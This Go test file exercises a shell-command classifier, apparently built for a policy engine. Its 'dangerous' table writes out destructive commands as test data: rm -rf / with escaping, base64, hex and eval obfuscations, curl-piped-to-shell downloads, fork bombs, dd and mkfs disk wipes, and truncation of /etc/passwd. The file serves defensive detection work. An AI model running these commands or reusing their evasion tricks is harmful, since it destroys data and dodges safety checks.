package shell

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// want describes what a line must classify as. Result-level booleans and the
// RecursiveDeletes / TruncatedFiles lists are always compared exactly (nil
// means empty); the fields of cmd are compared only when set.
type want struct {
	names []string // exact Names(), when set

	dynamic, piped, forkBomb, unparseable bool
	reason                                string   // substring of one DynamicReason
	parseError                            string   // substring of ParseError
	deletes                               []string // exact RecursiveDeletes
	truncates                             []string // exact TruncatedFiles

	cmd        string // check the first command with this name ("" + cmdEmpty for none)
	cmdEmpty   bool   // check the first command with an empty name
	path       string
	flags      []string // exact, when set
	noFlags    bool
	targets    []string // exact, when set
	noTargets  bool
	wrappers   []string // exact, when set
	nested     string   // exact, when set ("-" for the top level "")
	options    map[string]string
	subcommand string
	dir        string
	cmdDynamic bool
	redirect   *Redirect
}

type tcase struct {
	line string
	want want
}

var rmRoot = want{cmd: "rm", flags: []string{"force", "recursive"}, targets: []string{"/"}, deletes: []string{"/"}, nested: "-"}

func with(w want, f func(*want)) want {
	f(&w)
	return w
}

// dangerous lines: obfuscation tricks that must still be classified.
var dangerous = []tcase{
	{"rm -rf /", with(rmRoot, func(w *want) { w.names = []string{"rm"}; w.path = "rm" })},
	{"rm -fr /", rmRoot},
	{"rm -r -f /", rmRoot},
	{"rm --recursive --force /", rmRoot},
	{"rm -R --force -- /", rmRoot},
	{"RM=1 rm -rf /", rmRoot},
	// Climbing out of a home directory: ~ may be /root, so ~/.. may be /.
	{"rm -rf ~/..", want{cmd: "rm", flags: []string{"force", "recursive"}, targets: []string{"/"}, deletes: []string{"/"}}},
	{"rm -rf $HOME/../etc", want{cmd: "rm", flags: []string{"force", "recursive"}, targets: []string{"/etc"}, deletes: []string{"/etc"}}},
	{"rm -rf ~/a/../b", want{cmd: "rm", flags: []string{"force", "recursive"}, targets: []string{"~/b"}, deletes: []string{"~/b"}}},
	{"/bin/rm -rf /etc", want{cmd: "rm", path: "/bin/rm", flags: []string{"force", "recursive"}, targets: []string{"/etc"}, deletes: []string{"/etc"}}},
	{"sudo rm -rf /var/lib/postgresql", want{cmd: "rm", wrappers: []string{"sudo"}, targets: []string{"/var/lib/postgresql"}, deletes: []string{"/var/lib/postgresql"}, names: []string{"rm"}}},
	{"sudo -u root env X=1 nice -n 5 rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"sudo", "env", "nice"}; w.names = []string{"rm"} })},
	{`r\m -rf /`, with(rmRoot, func(w *want) { w.path = `r\m` })},
	{"'rm' -rf /", with(rmRoot, func(w *want) { w.path = "'rm'" })},
	{`"r"'m' -rf /`, rmRoot},
	{`$'\x72\155' -rf /`, rmRoot},
	{"rm -rf '/'", rmRoot},
	{`rm -rf "/"`, rmRoot},
	{"rm -rf //", rmRoot},
	{"rm -rf /etc/../", rmRoot},
	{"rm -rf /{etc,var}", want{cmd: "rm", targets: []string{"/etc", "/var"}, deletes: []string{"/etc", "/var"}}},
	{`rm -rf "$HOME"`, want{cmd: "rm", targets: []string{"$HOME"}, deletes: []string{"$HOME"}}},
	{"rm -rf ~", want{cmd: "rm", targets: []string{"~"}, deletes: []string{"~"}}},
	{`bash -c "rm -rf /"`, with(rmRoot, func(w *want) { w.nested = NestedShellC; w.names = []string{"bash", "rm"} })},
	{"sh -c 'sudo rm -rf /'", with(rmRoot, func(w *want) { w.nested = NestedShellC; w.wrappers = []string{"sudo"} })},
	{"sudo bash -lc 'rm -rf /'", with(rmRoot, func(w *want) { w.nested = NestedShellC; w.wrappers = []string{"sudo"} })},
	{`zsh -c "rm -rf /"`, with(rmRoot, func(w *want) { w.nested = NestedShellC })},
	{`sh -c "sh -c \"eval 'rm -rf /'\""`, with(rmRoot, func(w *want) { w.nested = NestedEval; w.names = []string{"sh", "sh", "eval", "rm"} })},
	{"eval 'rm -rf /'", with(rmRoot, func(w *want) { w.nested = NestedEval })},
	{"echo / | xargs rm -rf", with(rmRoot, func(w *want) {
		w.nested = NestedXargs
		w.wrappers = []string{"xargs"}
		w.names = []string{"echo", "rm"}
	})},
	{"xargs -I{} rm -rf {} <<< /", with(rmRoot, func(w *want) { w.nested = NestedXargs })},
	{"find . -name '*.log' | xargs rm -f", want{cmd: "rm", cmdDynamic: true, dynamic: true, reason: "rm has an argument that cannot be resolved statically", nested: NestedXargs}},
	{"(cd / && rm -rf *)", want{cmd: "rm", targets: []string{"/*"}, dir: "/", nested: NestedSubshell, deletes: []string{"/*"}, names: []string{"cd", "rm"}}},
	{"cd /etc; rm -rf ./*", want{cmd: "rm", targets: []string{"/etc/*"}, dir: "/etc", deletes: []string{"/etc/*"}}},
	{"true; rm -rf /etc", want{cmd: "rm", targets: []string{"/etc"}, deletes: []string{"/etc"}, names: []string{"true", "rm"}}},
	{"false || rm -rf /etc", want{cmd: "rm", targets: []string{"/etc"}, deletes: []string{"/etc"}}},
	{"x=$(rm -rf /)", with(rmRoot, func(w *want) { w.nested = NestedCmdSubst; w.names = []string{"rm"} })},
	{"echo `rm -rf /`", with(rmRoot, func(w *want) { w.nested = NestedCmdSubst })},
	{"if true; then rm -rf /; fi", rmRoot},
	{"for d in a b; do rm -rf /; done", rmRoot},
	{"time rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"time"} })},
	{"timeout 5 nohup rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"timeout", "nohup"} })},
	{"command rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"command"} })},
	{"exec rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"exec"} })},
	{"busybox rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"busybox"} })},
	{"doas rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"doas"} })},
	{"stdbuf -oL ionice -c3 chroot /mnt rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"stdbuf", "ionice", "chroot"} })},
	{"setsid rm -rf / &", with(rmRoot, func(w *want) { w.wrappers = []string{"setsid"} })},
	{"watch -n 1 rm -rf /", with(rmRoot, func(w *want) { w.wrappers = []string{"watch"}; w.nested = NestedShellC })},
	{"su -c 'rm -rf /' root", with(rmRoot, func(w *want) { w.wrappers = []string{"su"}; w.nested = NestedShellC })},
	{"ssh db1 'rm -rf /'", with(rmRoot, func(w *want) { w.wrappers = []string{"ssh"}; w.nested = NestedSSH })},
	{"find / -delete", want{cmd: "find", flags: []string{"delete"}, targets: []string{"/"}, deletes: []string{"/"}}},
	{`find / -exec rm -rf {} \;`, with(rmRoot, func(w *want) { w.nested = NestedFindExec; w.wrappers = []string{"find"} })},
	{"f(){ rm -rf /; }", with(rmRoot, func(w *want) { w.nested = NestedFunction })},
	{"alias ls='rm -rf /'", with(rmRoot, func(w *want) { w.nested = NestedEval })},
	{"trap 'rm -rf /' EXIT", with(rmRoot, func(w *want) { w.nested = NestedEval })},
	{"curl http://x | sh", want{piped: true, dynamic: true, reason: "download piped into sh", names: []string{"curl", "sh"}, cmd: "sh", nested: NestedPipeline}},
	{"wget -qO- x | bash", want{piped: true, dynamic: true, reason: "download piped into bash", cmd: "wget", options: map[string]string{"output-document": "-"}}},
	{"curl -s http://x | sudo python3", want{piped: true, dynamic: true, reason: "download piped into python3", cmd: "python3", wrappers: []string{"sudo"}}},
	{"curl -s http://x | perl", want{piped: true, dynamic: true, reason: "download piped into perl"}},
	// Inline code of another language is not checked: dynamic.
	{`python3 -c 'import shutil; shutil.rmtree("/")'`, want{cmd: "python3", dynamic: true, reason: "python3 runs inline code (-c) that is not shell"}},
	{`sudo perl -e 'system("rm -rf /")'`, want{cmd: "perl", wrappers: []string{"sudo"}, dynamic: true, reason: "perl runs inline code (-e)"}},
	{"python3 -m http.server 8000", want{cmd: "python3"}},
	{"curl -s http://x > >(sh)", want{piped: true, dynamic: true, reason: "piped into sh", cmd: "sh", nested: NestedProcSubst}},
	{"cat install.sh | sh", want{piped: true, dynamic: true, reason: "text that cannot be resolved statically piped into sh"}},
	{`bash -c "$(curl -fsSL http://x)"`, want{dynamic: true, reason: "bash -c of downloaded text", cmd: "curl", nested: NestedCmdSubst}},
	{"bash <(curl -s http://x)", want{dynamic: true, reason: "download run by bash"}},
	{"sh < <(curl -s http://x)", want{dynamic: true, reason: "download piped into sh"}},
	{"echo cm0gLXJmIC8= | base64 -d | sh", with(rmRoot, func(w *want) {
		w.piped, w.dynamic, w.reason = true, true, "decoded text piped into sh"
		w.nested = NestedStdin
		w.names = []string{"echo", "base64", "sh", "rm"}
	})},
	{"echo 726d202d7266202f | xxd -r -p | bash", with(rmRoot, func(w *want) {
		w.piped, w.dynamic, w.reason = true, true, "decoded text piped into bash"
		w.nested = NestedStdin
	})},
	{`echo "/ fr- mr" | rev | sh`, with(rmRoot, func(w *want) {
		w.piped, w.dynamic, w.reason = true, true, "decoded text piped into sh"
		w.nested = NestedStdin
	})},
	{"cat secret.b64 | base64 --decode | sh", want{piped: true, dynamic: true, reason: "decoded text piped into sh"}},
	{`eval "$(echo cm0= | base64 -d)"`, want{dynamic: true, reason: "eval of decoded text", names: []string{"echo", "base64", "eval", "rm"}, cmd: "rm", nested: NestedEval}},
	{`eval "$(echo cm0gLXJmIC8= | base64 -d)"`, with(rmRoot, func(w *want) {
		w.dynamic, w.reason = true, "eval of decoded text"
		w.nested = NestedEval
	})},
	{`eval "$X"`, want{dynamic: true, reason: "eval of text that cannot be resolved statically: \"$X\""}},
	{"echo 'rm -rf /' | sh", with(rmRoot, func(w *want) { w.piped = true; w.nested = NestedStdin })},
	{"printf 'rm -rf /' | bash", with(rmRoot, func(w *want) { w.piped = true; w.nested = NestedStdin })},
	{"bash <<< 'rm -rf /'", with(rmRoot, func(w *want) { w.nested = NestedStdin })},
	{"sh <<EOF\nrm -rf /\nEOF", with(rmRoot, func(w *want) { w.nested = NestedStdin })},
	{"$CMD -rf /", want{dynamic: true, reason: "variable used as command name: $CMD", cmdEmpty: true, path: "$CMD", cmdDynamic: true, targets: []string{"/"}}},
	{"$(echo rm) -rf /", want{dynamic: true, reason: "command substitution used as command name"}},
	{"/???/r? -rf /", want{dynamic: true, reason: "glob used as command name: /???/r?"}},
	{"rm -rf $DIR", want{dynamic: true, reason: "rm has an argument that cannot be resolved statically: $DIR", cmd: "rm", cmdDynamic: true, noTargets: true}},
	{"c=rm; $c -rf /", with(rmRoot, func(w *want) { w.path = "$c" })},
	{`c="rm -rf /"; $c`, rmRoot},
	{"d=/; rm -rf $d", rmRoot},
	{`d=/tmp/x && rm -rf "$d"`, want{cmd: "rm", targets: []string{"/tmp/x"}, deletes: []string{"/tmp/x"}}},
	{"HOME=/; rm -rf $HOME", rmRoot},
	{"export D=/; rm -rf $D", rmRoot},
	{"c=rm; eval \"$c -rf /\"", with(rmRoot, func(w *want) { w.nested = NestedEval })},
	{"d=/tmp; [ -n \"$X\" ] && d=/; rm -rf $d", want{dynamic: true, reason: "rm has an argument that cannot be resolved statically: $d", cmd: "rm", cmdDynamic: true}},
	{"d=/tmp; if true; then d=/; fi; rm -rf $d", want{dynamic: true, reason: "rm has an argument", cmd: "rm", cmdDynamic: true}},
	{"d=/tmp; f(){ d=/; }; f; rm -rf $d", want{dynamic: true, reason: "rm has an argument", cmd: "rm", cmdDynamic: true}},
	{"d=/tmp; printf -v d /; rm -rf $d", want{dynamic: true, reason: "rm has an argument", cmd: "rm", cmdDynamic: true}},
	{"(d=/tmp); rm -rf $d", want{dynamic: true, reason: "rm has an argument", cmd: "rm", cmdDynamic: true}},
	{"for c in rm; do $c -rf /; done", want{dynamic: true, reason: "variable used as command name: $c"}},
	{":(){ :|:& };:", want{forkBomb: true}},
	{"bomb(){ bomb|bomb& };bomb", want{forkBomb: true}},
	{"function f { f | f & }; f", want{forkBomb: true}},
	{"x(){ x & x; }; x", want{forkBomb: true}},
	{`bash -c ':(){ :|:& };:'`, want{forkBomb: true}},
	{"> /etc/passwd", want{truncates: []string{"/etc/passwd"}, cmdEmpty: true, redirect: &Redirect{Op: ">", Target: "/etc/passwd", TruncatesFile: true}}},
	{"cat x > /etc/hosts", want{truncates: []string{"/etc/hosts"}, cmd: "cat", targets: []string{"x"}, redirect: &Redirect{Op: ">", Target: "/etc/hosts", TruncatesFile: true}}},
	{"echo x >| /etc/shadow", want{truncates: []string{"/etc/shadow"}}},
	{"echo x | sudo tee /etc/sudoers", want{truncates: []string{"/etc/sudoers"}, cmd: "tee", wrappers: []string{"sudo"}}},
	{"dd if=/dev/zero of=/dev/sda", want{cmd: "dd", options: map[string]string{"if": "/dev/zero", "of": "/dev/sda"}, targets: []string{"/dev/sda"}, truncates: []string{"/dev/sda"}}},
	{"mkfs.ext4 /dev/sda1", want{cmd: "mkfs.ext4", targets: []string{"/dev/sda1"}}},
	{"chmod -R 777 /", want{cmd: "chmod", flags: []string{"recursive"}, options: map[string]string{"mode": "777"}, targets: []string{"/"}}},
	{"chmod --recursive a+rwx /", want{cmd: "chmod", flags: []string{"recursive"}, options: map[string]string{"mode": "a+rwx"}, targets: []string{"/"}}},
	{"chmod -x -R /usr/bin", want{cmd: "chmod", flags: []string{"recursive"}, options: map[string]string{"mode": "-x"}, targets: []string{"/usr/bin"}}},
	{"chown -R nobody /", want{cmd: "chown", flags: []string{"recursive"}, options: map[string]string{"owner": "nobody"}, targets: []string{"/"}}},
	{"chown --recursive nobody:nogroup /", want{cmd: "chown", flags: []string{"recursive"}, targets: []string{"/"}}},
	{"kill -9 1", want{cmd: "kill", flags: []string{"signal"}, options: map[string]string{"signal": "KILL"}, targets: []string{"1"}}},
	{"kill -s KILL 1", want{cmd: "kill", flags: []string{"signal"}, options: map[string]string{"signal": "KILL"}, targets: []string{"1"}}},
	{"kill -SIGKILL 1", want{cmd: "kill", flags: []string{"signal"}, options: map[string]string{"signal": "KILL"}, targets: []string{"1"}}},
	{"kill --signal=9 1", want{cmd: "kill", flags: []string{"signal"}, options: map[string]string{"signal": "KILL"}, targets: []string{"1"}}},
	{"kill -9 -1", want{cmd: "kill", options: map[string]string{"signal": "KILL"}, targets: []string{"-1"}}},
	{"kill 1", want{cmd: "kill", noFlags: true, targets: []string{"1"}}},
	{"systemctl stop postgresql", want{cmd: "systemctl", subcommand: "stop", targets: []string{"postgresql"}, noFlags: true}},
	{"sudo systemctl --now disable nginx", want{cmd: "systemctl", subcommand: "disable", targets: []string{"nginx"}, flags: []string{"now"}, wrappers: []string{"sudo"}}},
	{"service postgresql stop", want{cmd: "service", subcommand: "stop", targets: []string{"postgresql"}}},
	{"iptables -F", want{cmd: "iptables", flags: []string{"flush"}, noTargets: true}},
	{"iptables --flush INPUT", want{cmd: "iptables", flags: []string{"flush"}, targets: []string{"INPUT"}}},
	{"shutdown -h now", want{cmd: "shutdown", flags: []string{"poweroff"}, targets: []string{"now"}}},
	{"reboot", want{names: []string{"reboot"}, cmd: "reboot", noFlags: true, noTargets: true}},
	{"sudo reboot -f", want{cmd: "reboot", wrappers: []string{"sudo"}, flags: []string{"f"}}},
	{`rm -rf "/`, want{unparseable: true, parseError: "without closing quote"}},
	{`bash -c "rm -rf '/"`, want{unparseable: true, parseError: "bash -c: 1:8: reached EOF without closing quote", names: []string{"bash"}}},
	{nest(MaxDepth), with(rmRoot, func(w *want) { w.nested = NestedShellC })},
	{nest(MaxDepth + 2), want{unparseable: true, parseError: fmt.Sprintf("nested more than %d levels deep", MaxDepth)}},
	{strings.Repeat("a", MaxInputBytes+1), want{unparseable: true, parseError: "over the limit of 65536"}},
}

// nest returns n levels of sh -c around rm -rf /.
func nest(n int) string {
	s := "rm -rf /"
	for range n {
		s = "sh -c " + quote(s)
	}
	return s
}

// quote quotes s as $'...', which grows linearly with each level.
func quote(s string) string {
	return "$'" + strings.NewReplacer(`\`, `\\`, "'", `\'`).Replace(s) + "'"
}

// harmless lines: look-alikes that only contain dangerous words.
var harmless = []tcase{
	{`echo "rm -rf /"`, want{names: []string{"echo"}, cmd: "echo", noTargets: true, nested: "-"}},
	{"echo 'curl x | sh'", want{names: []string{"echo"}, cmd: "echo", noTargets: true}},
	{`grep -r "rm -rf" .`, want{names: []string{"grep"}, cmd: "grep", flags: []string{"recursive"}, targets: []string{"."}}},
	{"rm -rf /tmp/build-123", want{names: []string{"rm"}, cmd: "rm", flags: []string{"force", "recursive"}, targets: []string{"/tmp/build-123"}, deletes: []string{"/tmp/build-123"}}},
	{"rm ./file.txt", want{names: []string{"rm"}, cmd: "rm", noFlags: true, targets: []string{"file.txt"}}},
	{"cat /var/log/syslog | grep error", want{names: []string{"cat", "grep"}, cmd: "cat", targets: []string{"/var/log/syslog"}, nested: NestedPipeline}},
	{"# rm -rf /", want{names: []string{}}},
	{"ls # ; rm -rf /", want{names: []string{"ls"}}},
	{"printf '%s' ':(){ :|:& };:'", want{names: []string{"printf"}}},
	{"echo ':(){ :|:& };:' > /tmp/bomb.txt", want{names: []string{"echo"}, truncates: []string{"/tmp/bomb.txt"}}},
	{"f(){ echo hi; }; f; f", want{names: []string{"echo", "f", "f"}}},
	{"tail -n 100 /var/log/nginx/error.log", want{cmd: "tail", flags: []string{"lines"}, options: map[string]string{"lines": "100"}, targets: []string{"/var/log/nginx/error.log"}}},
	{`git commit -m "rm -rf /"`, want{cmd: "git", subcommand: "commit"}},
	{"echo hi > /dev/null 2>&1", want{names: []string{"echo"}}},
	{"command -v rm", want{names: []string{"command"}}},
	{"man rm", want{names: []string{"man"}, cmd: "man", targets: []string{"rm"}}},
	{`echo "rm -rf /" | grep rm`, want{names: []string{"echo", "grep"}}},
	{"python3 report.py | cat", want{names: []string{"python3", "cat"}}}, // a script file, not text piped into python
	{"ps aux | grep postgres", want{names: []string{"ps", "grep"}}},
	{"sudo -l", want{names: []string{"sudo"}}},
	{"kubectl get pods -n prod", want{cmd: "kubectl", subcommand: "get", options: map[string]string{}}},
	{`base64 -d <<< "cm0gLXJmIC8="`, want{names: []string{"base64"}}},
	{"rm -r build/ && mkdir build", want{names: []string{"rm", "mkdir"}, deletes: []string{"build"}}},
	{"", want{names: []string{}}},
	{"sudo systemctl status nginx", want{cmd: "systemctl", subcommand: "status", targets: []string{"nginx"}, wrappers: []string{"sudo"}}},
	{"tar czf /tmp/b.tgz /etc", want{cmd: "tar", options: map[string]string{"file": "/tmp/b.tgz"}, targets: []string{"/etc"}}},
	{"docker logs app 2>&1 | grep -i error", want{names: []string{"docker", "grep"}, cmd: "docker", subcommand: "logs", nested: NestedPipeline}},
	{"journalctl -u nginx --since today | tail -n 50", want{names: []string{"journalctl", "tail"}}},
	{"rm -rf node_modules", want{cmd: "rm", targets: []string{"node_modules"}, deletes: []string{"node_modules"}}},
	{"cp -r src /tmp/dst", want{cmd: "cp", flags: []string{"recursive"}, targets: []string{"src", "/tmp/dst"}}},
	{"[ -f /etc/passwd ] && echo ok", want{names: []string{"[", "echo"}}},
	{"ls [abc]*.txt", want{cmd: "ls", targets: []string{"[abc]*.txt"}}},
}

func TestClassify(t *testing.T) {
	for _, group := range []struct {
		name  string
		cases []tcase
	}{{"dangerous", dangerous}, {"harmless", harmless}} {
		for _, tc := range group.cases {
			name := tc.line
			if len(name) > 60 {
				name = name[:60]
			}
			t.Run(group.name+"/"+name, func(t *testing.T) {
				r, err := Classify(tc.line)
				if err != nil {
					t.Fatalf("Classify: %v", err)
				}
				check(t, r, tc.want)
			})
		}
	}
}

func check(t *testing.T, r *Result, w want) {
	t.Helper()
	dump := func() string { b, _ := json.Marshal(r); return string(b) }
	if r.Dynamic != w.dynamic || r.PipedIntoShell != w.piped || r.ForkBomb != w.forkBomb || r.Unparseable != w.unparseable {
		t.Errorf("dynamic=%v piped=%v forkBomb=%v unparseable=%v, want %v %v %v %v\n%s",
			r.Dynamic, r.PipedIntoShell, r.ForkBomb, r.Unparseable, w.dynamic, w.piped, w.forkBomb, w.unparseable, dump())
	}
	if w.reason != "" && !slices.ContainsFunc(r.DynamicReasons, func(s string) bool { return strings.Contains(s, w.reason) }) {
		t.Errorf("DynamicReasons = %q, want one containing %q", r.DynamicReasons, w.reason)
	}
	if !strings.Contains(r.ParseError, w.parseError) || (w.parseError == "") != (r.ParseError == "") {
		t.Errorf("ParseError = %q, want %q", r.ParseError, w.parseError)
	}
	eq(t, "RecursiveDeletes", r.RecursiveDeletes, nonNil(w.deletes))
	eq(t, "TruncatedFiles", r.TruncatedFiles, nonNil(w.truncates))
	if w.names != nil {
		eq(t, "Names", r.Names(), w.names)
	}
	if w.cmd == "" && !w.cmdEmpty {
		return
	}
	i := slices.IndexFunc(r.Commands, func(c Command) bool { return c.Name == w.cmd })
	if i < 0 {
		t.Fatalf("no command %q in %s", w.cmd, dump())
	}
	c := r.Commands[i]
	if w.path != "" && c.Path != w.path {
		t.Errorf("Path = %q, want %q", c.Path, w.path)
	}
	if w.flags != nil || w.noFlags {
		eq(t, "Flags", c.Flags, nonNil(w.flags))
	}
	if w.targets != nil || w.noTargets {
		eq(t, "Targets", c.Targets, nonNil(w.targets))
	}
	if w.wrappers != nil {
		eq(t, "Wrappers", c.Wrappers, w.wrappers)
	}
	if w.nested != "" {
		want := w.nested
		if want == "-" {
			want = ""
		}
		if c.Nested != want {
			t.Errorf("Nested = %q, want %q", c.Nested, want)
		}
	}
	for k, v := range w.options {
		if c.Options[k] != v {
			t.Errorf("Options[%q] = %q, want %q (%v)", k, c.Options[k], v, c.Options)
		}
	}
	if c.Subcommand != w.subcommand {
		t.Errorf("Subcommand = %q, want %q", c.Subcommand, w.subcommand)
	}
	if c.Dir != w.dir {
		t.Errorf("Dir = %q, want %q", c.Dir, w.dir)
	}
	if c.Dynamic != w.cmdDynamic {
		t.Errorf("Command.Dynamic = %v, want %v", c.Dynamic, w.cmdDynamic)
	}
	if w.redirect != nil && !slices.Contains(c.Redirects, *w.redirect) {
		t.Errorf("Redirects = %+v, want %+v among them", c.Redirects, *w.redirect)
	}
}

func eq(t *testing.T, what string, got, want []string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("%s = %v, want %v", what, got, want)
	}
}

// TestFlagSpellings checks that every spelling of the same flags gives the
// same set.
func TestFlagSpellings(t *testing.T) {
	groups := [][]string{
		{"rm -rf x", "rm -fr x", "rm -r -f x", "rm -R -f x", "rm --recursive --force x", "rm -f --recursive x", "rm -- -rf", "rm --force -R x"},
		{"cp -a x y", "cp --archive x y"},
		{"mv -f x y", "mv --force x y"},
		{"chmod -R 755 x", "chmod --recursive 755 x"},
		{"chown -Rh a x", "chown -R -h a x", "chown --recursive --no-dereference a x"},
		{"kill -9 2", "kill -KILL 2", "kill -SIGKILL 2", "kill -s 9 2", "kill -n 9 2", "kill --signal KILL 2", "kill -s sigkill 2"},
		{"systemctl -f stop x", "systemctl --force stop x"},
		{"dd of=/dev/sda", "dd of=/dev/sda"},
	}
	for _, g := range groups {
		first, _ := Classify(g[0])
		for _, line := range g[1:] {
			r, err := Classify(line)
			if err != nil {
				t.Fatal(err)
			}
			if line == "rm -- -rf" {
				// "--" ends flags: -rf is a file here.
				eq(t, line+" Targets", r.Commands[0].Targets, []string{"-rf"})
				eq(t, line+" Flags", r.Commands[0].Flags, []string{})
				continue
			}
			eq(t, line+" Flags", r.Commands[0].Flags, first.Commands[0].Flags)
			if r.Commands[0].Options["signal"] != first.Commands[0].Options["signal"] {
				t.Errorf("%s: signal %q, want %q", line, r.Commands[0].Options["signal"], first.Commands[0].Options["signal"])
			}
		}
	}
	r, _ := Classify("rm -rf x")
	c := r.Commands[0]
	for _, f := range []string{"r", "-R", "--recursive", "f", "force"} {
		if !c.HasFlag(f) {
			t.Errorf("HasFlag(%q) = false", f)
		}
	}
	if c.HasFlag("i") {
		t.Error(`HasFlag("i") = true`)
	}
}

func TestDeletesRecursively(t *testing.T) {
	for _, tc := range []struct {
		line, target string
		want         bool
	}{
		{"rm -rf /", "/etc/passwd", true},
		{"(cd / && rm -rf *)", "/var/lib", true},
		{"rm -rf /var/lib/postgresql", "/var/lib/postgresql/15/main", true},
		{"rm -rf /var/lib/postgresql", "/var/lib", false},
		{"rm -rf /tmp/build-123", "/etc", false},
		{"rm -f /etc/x", "/etc/x", false},
		{"rm -rf /etc/*", "/etc", false},
		{"rm -rf /etc/*", "/etc/ssh", true},
	} {
		r, err := Classify(tc.line)
		if err != nil {
			t.Fatal(err)
		}
		if got := r.DeletesRecursively(tc.target); got != tc.want {
			t.Errorf("%q: DeletesRecursively(%q) = %v, want %v", tc.line, tc.target, got, tc.want)
		}
	}
	r, _ := Classify("cat x > /etc/hosts")
	if !r.Truncates("/etc/hosts") || r.Truncates("/etc/passwd") {
		t.Errorf("Truncates: %v", r.TruncatedFiles)
	}
}

// TestJSON checks the JSON form the policy engine sees: snake_case keys and
// lists that are never null.
func TestJSON(t *testing.T) {
	r, err := Classify("sudo rm -rf /")
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"commands", "unparseable", "parse_error", "dynamic", "dynamic_reasons", "piped_into_shell", "fork_bomb", "recursive_deletes", "truncated_files"} {
		if _, ok := m[k]; !ok {
			t.Errorf("result JSON lacks %q: %s", k, b)
		}
	}
	if m["dynamic_reasons"] == nil {
		t.Errorf("dynamic_reasons is null: %s", b)
	}
	c := m["commands"].([]any)[0].(map[string]any)
	for _, k := range []string{"name", "path", "args", "flags", "options", "subcommand", "targets", "dir", "wrappers", "redirects", "nested", "dynamic"} {
		if _, ok := c[k]; !ok {
			t.Errorf("command JSON lacks %q: %s", k, b)
		}
	}
	if c["redirects"] == nil || c["options"] == nil {
		t.Errorf("null list or map in %s", b)
	}
	if c["name"] != "rm" || fmt.Sprint(c["wrappers"]) != "[sudo]" {
		t.Errorf("command JSON = %s", b)
	}
}

func FuzzClassify(f *testing.F) {
	for _, tc := range dangerous {
		f.Add(tc.line)
	}
	for _, tc := range harmless {
		f.Add(tc.line)
	}
	f.Add(benchLine)
	f.Fuzz(func(t *testing.T, line string) {
		start := time.Now()
		r, err := Classify(line)
		if d := time.Since(start); d > 5*time.Second {
			t.Fatalf("Classify took %v", d)
		}
		if err != nil {
			t.Fatalf("Classify(%q): %v", line, err)
		}
		if r.Commands == nil || r.DynamicReasons == nil || r.RecursiveDeletes == nil || r.TruncatedFiles == nil {
			t.Fatalf("nil list in %+v", r)
		}
		if r.Unparseable != (r.ParseError != "") {
			t.Fatalf("Unparseable=%v with ParseError %q", r.Unparseable, r.ParseError)
		}
		if _, err := json.Marshal(r); err != nil {
			t.Fatalf("json: %v", err)
		}
	})
}

const benchLine = "sudo systemctl restart nginx && tail -n 100 /var/log/nginx/error.log | grep -i timeout"

func BenchmarkClassify(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Classify(benchLine); err != nil {
			b.Fatal(err)
		}
	}
}

func ExampleClassify() {
	r, err := Classify(`sudo bash -c "cd / && rm -fr *"`)
	if err != nil {
		panic(err)
	}
	for _, c := range r.Commands {
		fmt.Printf("%s flags=%v targets=%v wrappers=%v nested=%q\n", c.Name, c.Flags, c.Targets, c.Wrappers, c.Nested)
	}
	fmt.Println("deletes recursively /etc:", r.DeletesRecursively("/etc"))
	// Output:
	// bash flags=[c] targets=[] wrappers=[sudo] nested=""
	// cd flags=[] targets=[/] wrappers=[sudo] nested="sh -c"
	// rm flags=[force recursive] targets=[/*] wrappers=[sudo] nested="sh -c"
	// deletes recursively /etc: true
}

// TestPathological checks that hostile shapes stay fast and bounded.
func TestPathological(t *testing.T) {
	fanout := `printf '%s\n' a b c d e f g h i j k l m n o p q | xargs -I{} sh -c "printf '%s\n' a b c d e f g h i j k l m n o p q | xargs -I{} sh -c \"printf '%s\\\\n' a b c d e f g h i j k l m n o p q | xargs -I{} sh -c 'rm -rf /{}'\""`
	finds := strings.Repeat("find a b c d e f g h i j k l m n o p q -exec ", 200) + "true"
	for _, tc := range []struct {
		name, line  string
		unparseable bool
	}{
		{"nested functions", strings.Repeat("f(){ ", 5000) + ":" + strings.Repeat("; }", 5000), false},
		{"nested pipelines", strings.Repeat("(a|", 5000) + "sh" + strings.Repeat(")|sh", 5000), false},
		{"nested subshells", strings.Repeat("( ", 20000) + "rm -rf /" + strings.Repeat(")", 20000), false},
		{"xargs fan-out", fanout, false},
		{"find fan-out", finds, true},
		{"long pipeline", strings.Repeat("echo x|sh|", 6000) + "sh", false},
		{"brace bomb", "rm -rf " + strings.Repeat("{a,b}", 200), false},
		{"many commands", strings.Repeat("rm -rf /;", 7000), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			r, err := Classify(tc.line)
			if err != nil {
				t.Fatal(err)
			}
			if d := time.Since(start); d > 3*time.Second {
				t.Errorf("took %v", d)
			}
			if r.Unparseable != tc.unparseable {
				t.Errorf("Unparseable = %v (%s), want %v", r.Unparseable, r.ParseError, tc.unparseable)
			}
			t.Logf("%d bytes, %d commands, %v", len(tc.line), len(r.Commands), time.Since(start))
		})
	}
}
